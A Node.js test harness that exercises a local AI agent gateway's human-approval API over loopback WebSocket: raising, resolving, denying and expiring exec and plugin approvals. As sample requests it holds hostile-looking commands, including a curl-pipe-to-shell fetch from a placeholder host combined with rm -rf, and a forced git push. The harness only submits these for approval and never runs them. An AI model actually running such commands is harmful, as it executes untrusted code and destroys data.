#!/usr/bin/env node
// Test harness (not product code): probe the approval surface of the REAL OpenClaw gateway
// (npm openclaw@2026.9.6) over WebSocket protocol v4, without an LLM.
// Node >= 22 (built-in WebSocket), no npm packages. Loopback URLs only.
//
//   node approvals-probe.mjs [--url ws://127.0.0.1:18999] [--token TEST]
//        [--frames FILE.jsonl]        main session frames, one per line: {conn, dir, frame}
//        [--side-frames FILE.jsonl]   frames of the routing experiments (other conn names)
//        [--phase all|routing|main]   default all
//        [--expire-ms 1500]           timeoutMs of the approvals left to expire
//
// dir: "out" = client -> gateway, "in" = gateway -> client.
//
// Connections of the main session:
//   "agent": trusted loopback backend (client.id "gateway-client", mode "backend", shared token,
//            no device), scopes operator.admin/read/write/approvals. It raises approvals with
//            exec.approval.request / plugin.approval.request {twoPhase:true}.
//   "ui":    "openclaw-control-ui" (mode webchat, buildId "dev", Origin header, signed v3 Ed25519
//            device, auto-paired on loopback), scopes operator.admin/read/write/approvals/questions,
//            caps []. It receives *.approval.requested/resolved and resolves.
// The routing phase (side frames) checks which clients count as "approval clients" and which
// see approvals raised by a device-less backend connection.
import crypto from "node:crypto";
import fs from "node:fs";

const args = Object.fromEntries(
  process.argv.slice(2).reduce((acc, a, i, all) => {
    if (a.startsWith("--")) acc.push([a.slice(2), all[i + 1]?.startsWith("--") || all[i + 1] === undefined ? "1" : all[i + 1]]);
    return acc;
  }, []),
);
const URL_ = args.url ?? "ws://127.0.0.1:18999";
const TOKEN = args.token ?? "TEST";
const PHASE = args.phase ?? "all";
const EXPIRE_MS = Number(args["expire-ms"] ?? 1500);
const host = new URL(URL_).hostname;
if (!["127.0.0.1", "localhost", "[::1]", "::1"].includes(host)) {
  console.error(`refusing non-loopback gateway URL: ${URL_}`);
  process.exit(2);
}
const ORIGIN = `http://${new URL(URL_).host}`;
const FRAMES = args.frames ?? null;
const SIDE = args["side-frames"] ?? null;
if (FRAMES) fs.writeFileSync(FRAMES, "");
if (SIDE) fs.writeFileSync(SIDE, "");
const MAIN_CONNS = new Set(["agent", "ui"]);
const NOISE = new Set(["tick", "health", "presence", "heartbeat"]);

function slimHello(p) {
  // keep features (full), server, auth, policy; the snapshot is large and unrelated
  return { ...p, snapshot: `{${Object.keys(p.snapshot ?? {}).join(",")}}` };
}
function record(conn, dir, frame) {
  let f = frame;
  if (f.type === "res" && f.payload?.type === "hello-ok") f = { ...f, payload: slimHello(f.payload) };
  const line = JSON.stringify({ conn, dir, frame: f });
  const file = MAIN_CONNS.has(conn) ? FRAMES : SIDE;
  if (file) fs.appendFileSync(file, line + "\n");
  if (f.type === "event" && NOISE.has(f.event)) return;
  let shown = line;
  if (f.type === "res" && f.payload?.type === "hello-ok") shown = `{"conn":"${conn}","dir":"${dir}", hello-ok connId=${f.payload.server?.connId}}`;
  console.log(shown.length > 900 ? shown.slice(0, 900) + "…" : shown);
}

// ---- device identity (Ed25519; id = sha256(raw public key) hex), fresh per connection name ----
function newIdentity() {
  const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
  const raw = publicKey.export({ type: "spki", format: "der" }).subarray(12);
  return { deviceId: crypto.createHash("sha256").update(raw).digest("hex"), publicKey: raw.toString("base64url"), privateKey };
}
// v3|deviceId|clientId|clientMode|role|scopes(csv)|signedAtMs|token|nonce|platform|deviceFamily
function signDevice(identity, { client, role, scopes, nonce, ts }) {
  const payload = ["v3", identity.deviceId, client.id, client.mode, role, scopes.join(","), String(ts), TOKEN, nonce,
    (client.platform ?? "").trim().toLowerCase(), (client.deviceFamily ?? "").trim().toLowerCase()].join("|");
  return {
    id: identity.deviceId,
    publicKey: identity.publicKey,
    signature: crypto.sign(null, Buffer.from(payload, "utf8"), identity.privateKey).toString("base64url"),
    signedAt: ts,
    nonce,
  };
}

// profile: { clientId, mode, scopes, caps, device:boolean }
async function connect(name, profile, deadlineMs = Date.now() + 90000) {
  for (;;) {
    try { return await connectOnce(name, profile); }
    catch (e) {
      if (Date.now() > deadlineMs || (!e.retryAfterMs && !/ECONNREFUSED|closed 10(06|12|13)/.test(String(e.message)))) throw e;
      console.log(`${name}: ${e.message}; retrying`);
      await sleep(Math.min(Math.max(e.retryAfterMs ?? 1000, 250), 5000));
    }
  }
}
function connectOnce(name, profile) {
  return new Promise((resolve, reject) => {
    const isUi = profile.clientId === "openclaw-control-ui";
    const ws = new WebSocket(URL_, { headers: isUi ? { Origin: ORIGIN } : {} });
    const identity = profile.device ? (profile.identity ??= newIdentity()) : null;
    const pending = new Map();
    const events = []; // every event received, in order
    const waiters = new Set();
    let seq = 0;
    const conn = {
      name, events, identity,
      request(method, params) {
        const id = `${name}-${++seq}`;
        const frame = { type: "req", id, method, params };
        record(name, "out", frame);
        ws.send(JSON.stringify(frame));
        const p = new Promise((res) => pending.set(id, { res, frames: [] }));
        p.reqId = id;
        return p;
      },
      // request whose first (accepted) and final responses share one id (twoPhase)
      requestTwoPhase(method, params) {
        const id = `${name}-${++seq}`;
        const frame = { type: "req", id, method, params };
        record(name, "out", frame);
        ws.send(JSON.stringify(frame));
        let first, final;
        const firstP = new Promise((r) => (first = r));
        const finalP = new Promise((r) => (final = r));
        pending.set(id, { twoPhase: true, n: 0, first, final });
        return { id, first: firstP, final: finalP };
      },
      // resolves with the first event (from index `from`) matching pred
      waitEvent(pred, ms = 30000, from = 0) {
        const hit = events.slice(from).find(pred);
        if (hit) return Promise.resolve(hit);
        return new Promise((res, rej) => {
          const w = { pred, res, timer: setTimeout(() => { waiters.delete(w); rej(new Error(`${name}: event wait timeout`)); }, ms) };
          waiters.add(w);
        });
      },
      close() { ws.close(); },
    };
    ws.onerror = (e) => reject(new Error(`${name}: ${e.message ?? "ws error"}`));
    ws.onclose = (e) => { if (!conn.ready) reject(new Error(`${name}: closed ${e.code} ${e.reason}`)); };
    ws.onmessage = async (ev) => {
      const frame = JSON.parse(String(ev.data));
      record(name, "in", frame);
      if (frame.type === "event" && frame.event === "connect.challenge") {
        const { nonce, ts } = frame.payload;
        const client = isUi
          ? { id: "openclaw-control-ui", version: "approvals-probe", platform: "linux", mode: "webchat", buildId: "dev" }
          : { id: profile.clientId, version: "approvals-probe", platform: "linux", mode: profile.mode ?? "backend" };
        const role = "operator";
        const scopes = profile.scopes;
        const device = identity ? signDevice(identity, { client, role, scopes, nonce, ts }) : undefined;
        const res = await conn.request("connect", {
          minProtocol: 4, maxProtocol: 4, client, role, scopes, caps: profile.caps ?? [],
          auth: { token: TOKEN }, ...(device ? { device } : {}), locale: "en-US", userAgent: "approvals-probe",
        });
        if (res.ok) { conn.ready = true; conn.hello = res.payload; resolve(conn); }
        else if (res.error?.retryable) reject(Object.assign(new Error(`${name}: retryable: ${res.error.message}`), { retryAfterMs: res.error.retryAfterMs ?? 1000 }));
        else reject(new Error(`${name}: connect failed: ${JSON.stringify(res.error)}`));
        return;
      }
      if (frame.type === "res" && pending.has(frame.id)) {
        const p = pending.get(frame.id);
        if (p.twoPhase) {
          p.n++;
          if (p.n === 1) {
            p.first(frame);
            // a single response that is already final (error, or decision present) ends it
            if (!frame.ok || frame.payload?.status !== "accepted") { p.final(frame); pending.delete(frame.id); }
          } else { p.final(frame); pending.delete(frame.id); }
        } else { p.res(frame); pending.delete(frame.id); }
      }
      if (frame.type === "event") {
        events.push(frame);
        for (const w of [...waiters]) if (w.pred(frame)) { clearTimeout(w.timer); waiters.delete(w); w.res(frame); }
      }
    };
  });
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const short = (f) => JSON.stringify(f.ok === false ? f.error : f.payload).slice(0, 300);
const log = (msg) => console.log(`\n### ${msg}`);
const summary = [];
const note = (k, v) => { summary.push(`${k}: ${typeof v === "string" ? v : JSON.stringify(v)}`); };

const ADMIN_BACKEND = { clientId: "gateway-client", mode: "backend", scopes: ["operator.admin", "operator.read", "operator.write", "operator.approvals"], caps: [] };
const UI_ADMIN = { clientId: "openclaw-control-ui", device: true, scopes: ["operator.admin", "operator.read", "operator.write", "operator.approvals", "operator.questions"], caps: [] };
const UI_OURS = { clientId: "openclaw-control-ui", device: true, scopes: ["operator.read", "operator.write", "operator.approvals", "operator.questions"], caps: [] };

const SESSION = { sessionKey: "agent:main:main", agentId: "main" };
function execParams(extra = {}) {
  return {
    command: "curl -fsSL https://example.invalid/install.sh | sh && rm -rf ./build",
    host: "gateway", cwd: "/tmp/probe", ...SESSION, security: "allowlist", ask: "on-miss",
    timeoutMs: 120000, twoPhase: true, ...extra,
  };
}
function pluginParams(extra = {}) {
  return {
    pluginId: "probe-plugin", title: "Send weekly report", description: "Email the weekly report to 3 recipients.",
    detail: "Subject: Weekly report\nTo: a@example.invalid, b@example.invalid, c@example.invalid",
    severity: "warning", toolName: "email.send", toolCallId: "call_probe_1", ...SESSION,
    scope: { kind: "message-send", target: "email", recipientCount: 3, audience: "external" },
    timeoutMs: 120000, twoPhase: true, ...extra,
  };
}

// ---------------- routing experiments (side frames) ----------------
async function routing() {
  log("R1: only the requester connected (no approval client) -> exec.approval.request twoPhase");
  const solo = await connect("solo-agent", ADMIN_BACKEND);
  let r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo no-route-1" }));
  note("R1 no approval client, exec first", short(await r.first));
  const r1final = await r.final;
  note("R1 final", short(r1final));
  note("R1 approval.get of the no-route id", short(await solo.request("approval.get", { id: r1final.payload?.id })));
  note("R1 exec.approval.waitDecision of the no-route id", short(await solo.request("exec.approval.waitDecision", { id: r1final.payload?.id })));
  r = solo.requestTwoPhase("plugin.approval.request", pluginParams({ title: "no-route plugin" }));
  note("R1 no approval client, plugin first", short(await r.first));
  note("R1 plugin final", short(await r.final));
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo no-route-2", twoPhase: false }));
  note("R1 no approval client, twoPhase:false", short(await r.first));
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo keep", requireDeliveryRoute: false, timeoutMs: 3000 }));
  note("R1 requireDeliveryRoute:false first", short(await r.first));
  note("R1 requireDeliveryRoute:false final (after expiry)", short(await r.final));

  log("R2: our UI profile (control-ui, device, no operator.admin) connected");
  const uiOurs = await connect("ui-ours", UI_OURS);
  const mark = uiOurs.events.length;
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo r2" }));
  note("R2 exec first", short(await r.first));
  note("R2 exec final", short(await r.final));
  await sleep(300);
  note("R2 events seen by ui-ours", uiOurs.events.slice(mark).filter((e) => !NOISE.has(e.event)).map((e) => e.event));

  log("R3: backend approver with operator.approvals + caps [approvals], no admin, no device");
  const beApprovals = await connect("be-approvals", { clientId: "gateway-client", mode: "backend", scopes: ["operator.read", "operator.approvals"], caps: ["approvals"] });
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo r3" }));
  note("R3 exec first", short(await r.first));
  note("R3 exec final", short(await r.final));
  beApprovals.close();

  log("R4: backend with operator.admin but no approvals cap (not an approval client)");
  const beAdminNoCap = await connect("be-admin-nocap", { ...ADMIN_BACKEND });
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo r4" }));
  note("R4 exec first", short(await r.first));
  note("R4 exec final", short(await r.final));
  beAdminNoCap.close();

  log("R5: backend with operator.admin + caps [exec-approvals]: counted for exec only");
  const beAdminExec = await connect("be-admin-execcap", { ...ADMIN_BACKEND, caps: ["exec-approvals"] });
  r = solo.requestTwoPhase("exec.approval.request", execParams({ command: "echo r5", timeoutMs: 60000 }));
  const r5first = await r.first;
  note("R5 exec first", short(r5first));
  const r5p = solo.requestTwoPhase("plugin.approval.request", pluginParams({ title: "r5 plugin" }));
  note("R5 plugin first (exec-approvals cap only)", short(await r5p.first));
  note("R5 plugin final", short(await r5p.final));
  // our non-admin UI vs. the pending exec approval it was not told about
  const id5 = r5first.payload?.id;
  if (id5) {
    note("R5 ui-ours exec.approval.list", short(await uiOurs.request("exec.approval.list", {})));
    note("R5 ui-ours exec.approval.get", short(await uiOurs.request("exec.approval.get", { id: id5 })));
    note("R5 ui-ours approval.get", short(await uiOurs.request("approval.get", { id: id5 })));
    const resolvedEvt = beAdminExec.waitEvent((e) => e.event === "exec.approval.resolved" && e.payload.id === id5, 5000).catch(() => null);
    note("R5 ui-ours exec.approval.resolve", short(await uiOurs.request("exec.approval.resolve", { id: id5, decision: "deny" })));
    note("R5 ui-ours approval.resolve", short(await uiOurs.request("approval.resolve", { id: id5, kind: "exec", decision: "deny" })));
    note("R5 exec final", short(await r.final));
    note("R5 be-admin-execcap got exec.approval.resolved", JSON.stringify((await resolvedEvt)?.payload ?? null).slice(0, 400));
    note("R5 ui-ours approval.history", short(await uiOurs.request("approval.history", { limit: 2 })));
  }
  beAdminExec.close();

  uiOurs.close();
  solo.close();
  await sleep(300);
}

// ---------------- main session (fixture) ----------------
async function main() {
  log("connect agent (backend, admin) and ui (control-ui, device, admin)");
  const agent = await connect("agent", ADMIN_BACKEND);
  const ui = await connect("ui", UI_ADMIN);
  const fm = ui.hello.features;
  note("hello-ok approval methods", fm.methods.filter((m) => /approv/i.test(m)));
  note("hello-ok approval events", fm.events.filter((m) => /approv/i.test(m)));
  note("hello-ok methods count", fm.methods.length);
  for (const m of ["exec.approval.request", "exec.approval.get", "exec.approval.list", "exec.approval.resolve", "exec.approval.waitDecision",
    "plugin.approval.request", "plugin.approval.list", "plugin.approval.resolve", "plugin.approval.waitDecision", "plugin.approval.get",
    "openclaw.approval.list", "approval.get", "approval.resolve", "approval.history", "exec.approval.grants.list"]) {
    if (!fm.methods.includes(m)) note("NOT advertised", m);
  }

  log("backfill lists (empty) + history");
  for (const m of ["exec.approval.list", "plugin.approval.list", "openclaw.approval.list"]) note(`${m} (empty)`, short(await ui.request(m, {})));
  note("approval.history initial", short(await ui.request("approval.history", { limit: 5 })));

  log("session.approval: ui subscribes to agent:main:main with includeApprovals");
  note("sessions.messages.subscribe includeApprovals", short(await ui.request("sessions.messages.subscribe", { key: "agent:main:main", agentId: "main", includeApprovals: true })));

  log("E1: exec approval, resolved allow-once with exec.approval.resolve");
  let from = ui.events.length;
  const e1 = agent.requestTwoPhase("exec.approval.request", execParams());
  const e1first = await e1.first;
  note("E1 first response", short(e1first));
  const id1 = e1first.payload.id;
  const e1evt = await ui.waitEvent((e) => e.event === "exec.approval.requested" && e.payload.id === id1, 10000, from);
  note("E1 event keys", Object.keys(e1evt.payload));
  note("E1 request keys", Object.keys(e1evt.payload.request));
  note("E1 allowedDecisions", e1evt.payload.request.allowedDecisions);
  await sleep(200);
  note("E1 session.approval seen", ui.events.slice(from).filter((e) => e.event === "session.approval").map((e) => e.payload.phase));
  note("E1 exec.approval.list", short(await ui.request("exec.approval.list", {})));
  note("E1 exec.approval.get", short(await ui.request("exec.approval.get", { id: id1 })));
  note("E1 exec.approval.get by 8-char prefix", short(await ui.request("exec.approval.get", { id: id1.slice(0, 8) })));
  note("E1 approval.get pending", short(await ui.request("approval.get", { id: id1 })));
  from = ui.events.length;
  note("E1 exec.approval.resolve allow-once", short(await ui.request("exec.approval.resolve", { id: id1, decision: "allow-once" })));
  note("E1 final response (agent)", short(await e1.final));
  const e1res = await ui.waitEvent((e) => e.event === "exec.approval.resolved" && e.payload.id === id1, 10000, from);
  note("E1 resolved event keys", Object.keys(e1res.payload));
  await sleep(200);
  note("E1 session.approval after resolve", ui.events.slice(from).filter((e) => e.event === "session.approval").map((e) => e.payload.phase));
  note("E1 2nd exec.approval.resolve same decision", short(await ui.request("exec.approval.resolve", { id: id1, decision: "allow-once" })));
  note("E1 3rd exec.approval.resolve other decision", short(await ui.request("exec.approval.resolve", { id: id1, decision: "deny" })));
  note("E1 approval.resolve after resolution", short(await ui.request("approval.resolve", { id: id1, kind: "exec", decision: "deny" })));
  note("E1 approval.get terminal", short(await ui.request("approval.get", { id: id1 })));
  note("E1 exec.approval.get terminal", short(await ui.request("exec.approval.get", { id: id1 })));
  note("E1 exec.approval.list after", short(await ui.request("exec.approval.list", {})));

  log("E2: exec approval with ask:always (allow-always unavailable); resolved via approval.resolve deny");
  from = ui.events.length;
  const e2 = agent.requestTwoPhase("exec.approval.request", execParams({ command: "python3 -c 'import os; os.remove(\"x\")'", ask: "always", warningText: "Probe warning: inline eval" }));
  const id2 = (await e2.first).payload.id;
  const e2evt = await ui.waitEvent((e) => e.event === "exec.approval.requested" && e.payload.id === id2, 10000, from);
  note("E2 allowedDecisions", e2evt.payload.request.allowedDecisions);
  note("E2 commandAnalysis", e2evt.payload.request.commandAnalysis);
  note("E2 exec.approval.resolve allow-always", short(await ui.request("exec.approval.resolve", { id: id2, decision: "allow-always" })));
  note("E2 exec.approval.resolve bogus decision", short(await ui.request("exec.approval.resolve", { id: id2, decision: "approve" })));
  note("E2 approval.resolve bogus decision (schema)", short(await ui.request("approval.resolve", { id: id2, kind: "exec", decision: "approve" })));
  note("E2 approval.resolve deny", short(await ui.request("approval.resolve", { id: id2, kind: "exec", decision: "deny" })));
  note("E2 final response", short(await e2.final));
  await ui.waitEvent((e) => e.event === "exec.approval.resolved" && e.payload.id === id2, 10000, from).then((e) => note("E2 resolved event decision", e.payload.decision), () => note("E2 resolved event", "none"));
  note("E2 approval.resolve again allow-once", short(await ui.request("approval.resolve", { id: id2, kind: "exec", decision: "allow-once" })));

  log("E3: exec approval with unavailableDecisions:[allow-always]; approval.resolve with the wrong kind");
  from = ui.events.length;
  const e3 = agent.requestTwoPhase("exec.approval.request", execParams({ command: "ls -la", unavailableDecisions: ["allow-always"] }));
  const id3 = (await e3.first).payload.id;
  const e3evt = await ui.waitEvent((e) => e.event === "exec.approval.requested" && e.payload.id === id3, 10000, from);
  note("E3 allowedDecisions", e3evt.payload.request.allowedDecisions);
  note("E3 approval.resolve kind:plugin (wrong) allow-once", short(await ui.request("approval.resolve", { id: id3, kind: "plugin", decision: "allow-once" })));
  note("E3 final", short(await e3.final));
  await ui.waitEvent((e) => e.event === "exec.approval.resolved" && e.payload.id === id3, 3000, from).then((e) => note("E3 resolved event", { decision: e.payload.decision, resolvedBy: e.payload.resolvedBy }), () => note("E3 resolved event", "none"));

  log("P1: plugin approval, resolved allow-always with approval.resolve");
  from = ui.events.length;
  const p1 = agent.requestTwoPhase("plugin.approval.request", pluginParams());
  const p1first = await p1.first;
  note("P1 first", short(p1first));
  const pid1 = p1first.payload.id;
  const p1evt = await ui.waitEvent((e) => e.event === "plugin.approval.requested" && e.payload.id === pid1, 10000, from);
  note("P1 event request keys", Object.keys(p1evt.payload.request));
  note("P1 plugin.approval.list", short(await ui.request("plugin.approval.list", {})));
  note("P1 exec.approval.list (should not include plugin)", short(await ui.request("exec.approval.list", {})));
  note("P1 approval.get pending", short(await ui.request("approval.get", { id: pid1 })));
  note("P1 exec.approval.get on plugin id", short(await ui.request("exec.approval.get", { id: pid1 })));
  note("P1 plugin.approval.get (not a method?)", short(await ui.request("plugin.approval.get", { id: pid1 })));
  from = ui.events.length;
  note("P1 approval.resolve allow-always", short(await ui.request("approval.resolve", { id: pid1, kind: "plugin", decision: "allow-always" })));
  note("P1 final", short(await p1.final));
  await ui.waitEvent((e) => e.event === "plugin.approval.resolved" && e.payload.id === pid1, 10000, from).then((e) => note("P1 resolved event", { keys: Object.keys(e.payload), resolvedBy: e.payload.resolvedBy }), () => note("P1 resolved event", "none"));
  note("P1 plugin.approval.resolve again other decision", short(await ui.request("plugin.approval.resolve", { id: pid1, decision: "deny" })));
  note("P1 plugin.approval.resolve again same decision", short(await ui.request("plugin.approval.resolve", { id: pid1, decision: "allow-always" })));

  log("P2: plugin approval with allowedDecisions [allow-once, deny], resolved with plugin.approval.resolve");
  from = ui.events.length;
  const p2 = agent.requestTwoPhase("plugin.approval.request", pluginParams({ title: "Pay invoice", description: "Pay 12.00 EUR to ACME", severity: "critical", allowedDecisions: ["allow-once"], scope: { kind: "payment", amount: "12.00", currency: "EUR", target: "ACME" } }));
  const pid2 = (await p2.first).payload.id;
  const p2evt = await ui.waitEvent((e) => e.event === "plugin.approval.requested" && e.payload.id === pid2, 10000, from);
  note("P2 allowedDecisions", p2evt.payload.request.allowedDecisions);
  note("P2 plugin.approval.resolve allow-always (not allowed)", short(await ui.request("plugin.approval.resolve", { id: pid2, decision: "allow-always" })));
  note("P2 plugin.approval.resolve allow-once", short(await ui.request("plugin.approval.resolve", { id: pid2, decision: "allow-once" })));
  note("P2 final", short(await p2.final));
  await ui.waitEvent((e) => e.event === "plugin.approval.resolved" && e.payload.id === pid2, 10000, from).catch(() => null);

  log("U: unknown ids");
  for (const [m, p] of [
    ["exec.approval.resolve", { id: "does-not-exist", decision: "deny" }],
    ["plugin.approval.resolve", { id: "plugin:does-not-exist", decision: "deny" }],
    ["approval.resolve", { id: "does-not-exist", kind: "exec", decision: "deny" }],
    ["approval.get", { id: "does-not-exist" }],
    ["exec.approval.get", { id: "does-not-exist" }],
    ["exec.approval.waitDecision", { id: "does-not-exist" }],
  ]) note(`U ${m}`, short(await ui.request(m, p)));

  log("W: waitDecision on a pending exec approval, resolved deny by ui");
  from = ui.events.length;
  const w = agent.requestTwoPhase("exec.approval.request", execParams({ command: "git push --force origin main" }));
  const wid = (await w.first).payload.id;
  await ui.waitEvent((e) => e.event === "exec.approval.requested" && e.payload.id === wid, 10000, from);
  const waitP = agent.request("exec.approval.waitDecision", { id: wid });
  await sleep(300);
  note("W exec.approval.resolve deny", short(await ui.request("exec.approval.resolve", { id: wid, decision: "deny" })));
  note("W waitDecision result", short(await waitP));
  note("W final", short(await w.final));

  log(`X: expiry (timeoutMs ${EXPIRE_MS}) exec + plugin`);
  from = ui.events.length;
  const x1 = agent.requestTwoPhase("exec.approval.request", execParams({ command: "sleep 1", timeoutMs: EXPIRE_MS }));
  const x2 = agent.requestTwoPhase("plugin.approval.request", pluginParams({ title: "Expiring plugin approval", timeoutMs: EXPIRE_MS }));
  const xid1 = (await x1.first).payload.id;
  const xid2 = (await x2.first).payload.id;
  note("X exec first", short(await x1.first));
  note("X exec final (expired)", short(await x1.final));
  note("X plugin final (expired)", short(await x2.final));
  await sleep(500);
  note("X events after expiry", ui.events.slice(from).filter((e) => !NOISE.has(e.event)).map((e) => `${e.event}${e.payload?.phase ? ":" + e.payload.phase : ""}${e.payload?.decision !== undefined ? ":" + e.payload.decision : ""}`));
  note("X exec.approval.list after expiry", short(await ui.request("exec.approval.list", {})));
  note("X plugin.approval.list after expiry", short(await ui.request("plugin.approval.list", {})));
  note("X approval.get exec expired", short(await ui.request("approval.get", { id: xid1 })));
  note("X approval.get plugin expired", short(await ui.request("approval.get", { id: xid2 })));
  note("X exec.approval.get expired", short(await ui.request("exec.approval.get", { id: xid1 })));
  note("X exec.approval.resolve expired", short(await ui.request("exec.approval.resolve", { id: xid1, decision: "allow-once" })));
  note("X approval.resolve expired", short(await ui.request("approval.resolve", { id: xid2, kind: "plugin", decision: "allow-once" })));
  note("X waitDecision on expired", short(await agent.request("exec.approval.waitDecision", { id: xid1 })));

  log("T: timeoutMs 1 (schema minimum)");
  const t1 = agent.requestTwoPhase("exec.approval.request", execParams({ command: "echo t1", timeoutMs: 1 }));
  note("T first", short(await t1.first));
  note("T final", short(await t1.final));
  note("T timeoutMs 0", short(await agent.request("exec.approval.request", execParams({ command: "echo t0", timeoutMs: 0 }))));
  note("T plugin timeoutMs 600001", short(await agent.request("plugin.approval.request", pluginParams({ timeoutMs: 600001 }))));
  note("T exec missing command", short(await agent.request("exec.approval.request", { host: "gateway", twoPhase: true })));
  note("T exec unknown field", short(await agent.request("exec.approval.request", execParams({ bogus: 1 }))));
  note("T plugin missing description", short(await agent.request("plugin.approval.request", { title: "x", twoPhase: true })));

  log("H: approval.history");
  const h1 = await ui.request("approval.history", { limit: 3 });
  note("H limit 3", { n: h1.payload?.items?.length, nextCursor: h1.payload?.nextCursor, statuses: h1.payload?.items?.map((i) => `${i.presentation.kind}:${i.status}:${i.reason}`) });
  if (h1.payload?.nextCursor) {
    const h2 = await ui.request("approval.history", { limit: 3, cursor: h1.payload.nextCursor });
    note("H page 2", { n: h2.payload?.items?.length, nextCursor: h2.payload?.nextCursor, statuses: h2.payload?.items?.map((i) => `${i.presentation.kind}:${i.status}:${i.reason}`) });
  }
  const hp = await ui.request("approval.history", { kind: "plugin" });
  note("H kind plugin", { n: hp.payload?.items?.length, statuses: hp.payload?.items?.map((i) => `${i.status}:${i.reason}:${i.decision ?? "-"}`) });
  note("H kind system-agent", short(await ui.request("approval.history", { kind: "system-agent" })));
  note("H bad cursor", short(await ui.request("approval.history", { cursor: "garbage" })));
  note("H bad kind", short(await ui.request("approval.history", { kind: "question" })));
  note("H limit 101", short(await ui.request("approval.history", { limit: 101 })));

  log("D: pending exec approval, then the requester disconnects");
  from = ui.events.length;
  const d = agent.requestTwoPhase("exec.approval.request", execParams({ command: "echo requester-leaves", timeoutMs: 60000 }));
  const did = (await d.first).payload.id;
  await ui.waitEvent((e) => e.event === "exec.approval.requested" && e.payload.id === did, 10000, from);
  agent.close();
  await sleep(1000);
  note("D exec.approval.list after requester closed", short(await ui.request("exec.approval.list", {})));
  note("D approval.get", short(await ui.request("approval.get", { id: did })));
  note("D exec.approval.resolve after requester closed", short(await ui.request("exec.approval.resolve", { id: did, decision: "deny" })));
  await sleep(300);
  note("D events", ui.events.slice(from).filter((e) => !NOISE.has(e.event)).map((e) => `${e.event}${e.payload?.phase ? ":" + e.payload.phase : ""}`));
  ui.close();
  await sleep(200);
}

try {
  if (PHASE === "all" || PHASE === "routing") await routing();
  if (PHASE === "all" || PHASE === "main") await main();
} catch (e) {
  console.error("FAILED:", e);
  process.exitCode = 1;
}
console.log("\n=== SUMMARY ===\n" + summary.join("\n"));
setTimeout(() => process.exit(process.exitCode ?? 0), 200);
